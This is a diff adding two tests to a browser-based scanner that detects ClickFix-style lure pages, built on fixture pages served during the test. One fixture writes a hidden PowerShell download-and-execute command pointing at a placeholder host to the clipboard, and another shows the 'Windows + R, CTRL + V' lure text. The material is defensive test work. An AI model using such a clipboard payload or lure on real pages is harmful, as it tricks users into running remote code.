@@ -329,6 +329,38 @@ describe('scanner-worker browser engine (real Chromium)', function () {
     assert.equal(scriptsServed, 0, 'the worker script was fetched from the target');
   });
 
+  it('clicks the page only when it gives a reason: a click handler alone is left alone, one beside ClickFix steps is clicked', async () => {
+    const clicks: Record<string, number> = {};
+    routes.set('/clicked', (req, res) => {
+      const which = new URL(req.url ?? '/', base).searchParams.get('page') ?? '';
+      clicks[which] = (clicks[which] ?? 0) + 1;
+      res.writeHead(204);
+      res.end();
+    });
+    const page = (name: string, text: string) =>
+      html(`<!doctype html><title>${name}</title><body><p>${text}</p><div id="b" role="button">Continue</div><script>
+        document.getElementById('b').addEventListener('click', () => { fetch('/clicked?page=${name}'); });
+      </script>`);
+    routes.set('/menu', page('menu', 'An ordinary page with a button.'));
+    routes.set('/steps', page('steps', 'To verify: press Windows + R, then CTRL + V, then Enter.'));
+    await scan('/menu');
+    await scan('/steps');
+    assert.equal(clicks['menu'] ?? 0, 0, 'a page with no reason was clicked');
+    assert.equal(clicks['steps'], 1, 'the page with ClickFix steps was not clicked');
+  });
+
+  it('keeps clipboard writes made before a same-origin script redirect (the recorder survives the navigation)', async () => {
+    routes.set('/copy-then-go', html(`<!doctype html><title>loading</title><script>
+      navigator.clipboard.writeText('powershell -w hidden -c iwr https://x.example/a | iex');
+      setTimeout(() => { location.href = '/landed'; }, 50);
+    </script>`));
+    routes.set('/landed', html('<!doctype html><title>landed</title><p>done</p>'));
+    const result = await scan('/copy-then-go');
+    assert.equal(new URL(result.finalUrl).pathname, '/landed');
+    const copied = result.signals.find((signal) => signal.id === 'clipboard-shell-command');
+    assert.match(copied?.evidence ?? '', /^clipboard: powershell -w hidden/, JSON.stringify({ signals: result.signals.map((signal) => signal.id), incidents: result.capture?.incidents }));
+  });
+
   it('applies the job options: user agent, language, referer, extra headers, mobile device', async () => {
     let seen: IncomingMessage['headers'] = {};
     routes.set('/echo', (req, res) => {
